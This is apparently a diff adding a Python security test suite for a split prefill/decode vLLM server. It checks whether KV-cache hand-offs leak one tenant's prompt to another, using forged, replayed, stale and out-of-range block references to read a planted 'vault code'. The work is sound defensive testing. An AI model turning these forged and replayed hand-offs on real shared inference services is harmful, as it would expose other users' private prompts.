@@ -1,0 +1,111 @@
+"""What decode is given instead of an honest hand-off, and what it answers: the same cases stock and guarded.
+
+Each case is played with prompts of its own, so that none finds another's pages in a cache. ``salt``: anything.
+"""
+
+import time
+from typing import Any
+
+import httpx
+from pair import Pair, complete, handed_off, metric, prefilled
+
+CODE = "ZX-4471-QUARTZ"
+WAIT_S = 60
+
+
+def secret(salt: str) -> str:
+    """Give a tenant's prompt with a code in it, of about fifty tokens."""
+    return (
+        f"File {salt}. The vault code of tenant B is {CODE}. Nobody else may read this. "
+        f"Question: what is the vault code of tenant B? Answer: the vault code of tenant B is"
+    )
+
+
+def tokens_of(pair: Pair, prompt: str) -> list[int]:
+    """Give a prompt's token ids."""
+    body = {"model": "smol", "prompt": prompt}
+    answer = httpx.post(f"{pair.decode}/tokenize", json=body, timeout=60, trust_env=False)
+    answer.raise_for_status()
+    ids: list[int] = answer.json()["tokens"]
+    return ids
+
+
+def fill(pair: Pair, salt: str, requests: int = 6) -> None:
+    """Let other tenants use prefill, so that pages which are free are theirs next."""
+    for number in range(requests):
+        complete(pair.prefill, f"Tenant {salt} {number} asks: " + "river stone cloud window garden " * 24, 1)
+
+
+def short_count(pair: Pair, salt: str) -> Any:
+    """Prefill computed one token (a placeholder); decode reserves as many pages for a whole prompt."""
+    ids = tokens_of(pair, secret(salt))[:27]
+    return complete(pair.decode, ids, 12, prefilled(pair, ids[:1]))
+
+
+def stale(pair: Pair, salt: str) -> Any:
+    """The lease ran out, others used the pages, and then decode reads them."""
+    expired = metric(pair.prefill, "vllm:nixl_num_kv_expired_reqs_total")
+    prompt = secret(salt)
+    params = prefilled(pair, prompt)
+    deadline = time.monotonic() + WAIT_S
+    while metric(pair.prefill, "vllm:nixl_num_kv_expired_reqs_total") == expired and time.monotonic() < deadline:
+        time.sleep(0.5)
+        complete(pair.prefill, "Are you there?", 1)
+    fill(pair, salt)
+    return complete(pair.decode, prompt, 12, params)
+
+
+def forged_prompt(pair: Pair, salt: str) -> tuple[list[int], list[int]]:
+    """Give a tenant's prompt, and one of another tenant of the same length that says nothing and ends alike."""
+    victim = tokens_of(pair, secret(salt))
+    mark = tokens_of(pair, f"{salt}")[-1]
+    return victim, [mark] * (len(victim) - 1) + victim[-1:]
+
+
+def forged(pair: Pair, salt: str) -> Any:
+    """A tenant names the pages of another in the request: the answer comes from that one's prompt."""
+    victim, own = forged_prompt(pair, salt)
+    return complete(pair.decode, own, 12, prefilled(pair, victim))
+
+
+def poisoned(pair: Pair, salt: str) -> Any:
+    """After a forged hand-off: an honest request without one, which begins as the forged prompt did."""
+    _, own = forged_prompt(pair, salt)
+    return complete(pair.decode, [*own[:32], *tokens_of(pair, " The vault code of tenant B is")], 12)
+
+
+def one_block_too_many(pair: Pair, salt: str) -> Any:
+    """Prefill's prompt is a block longer than decode's: the tail is taken for the whole."""
+    ids = tokens_of(pair, secret(salt))
+    return complete(pair.decode, ids, 12, prefilled(pair, [*ids, *ids[:32]]))
+
+
+def one_block_too_few(pair: Pair, salt: str) -> Any:
+    """Prefill's prompt is a block shorter than decode's."""
+    ids = tokens_of(pair, secret(salt))
+    return complete(pair.decode, [*ids, *ids[:32]], 12, prefilled(pair, ids))
+
+
+def out_of_range(pair: Pair, salt: str) -> Any:
+    """The hand-off names a block that prefill does not have."""
+    prompt = secret(salt)
+    params = prefilled(pair, prompt)
+    return complete(pair.decode, prompt, 12, {**params, "remote_block_ids": [[999_999, 999_998]]})
+
+
+def replayed(pair: Pair, salt: str) -> Any:
+    """A hand-off is used a second time, with the same prompt, before anybody has used its pages."""
+    prompt = secret(salt)
+    params = prefilled(pair, prompt)
+    complete(pair.decode, prompt, 4, dict(params)).raise_for_status()
+    return complete(pair.decode, prompt, 12, params)
+
+
+def honest(pair: Pair, salt: str, max_tokens: int = 12) -> Any:
+    """Nothing is wrong."""
+    return handed_off(pair, secret(salt), max_tokens)
+
+
+def alive(pair: Pair) -> bool:
+    """Does decode still answer, alone?"""
+    return bool(complete(pair.decode, "The capital of France is", 4).status_code == 200)
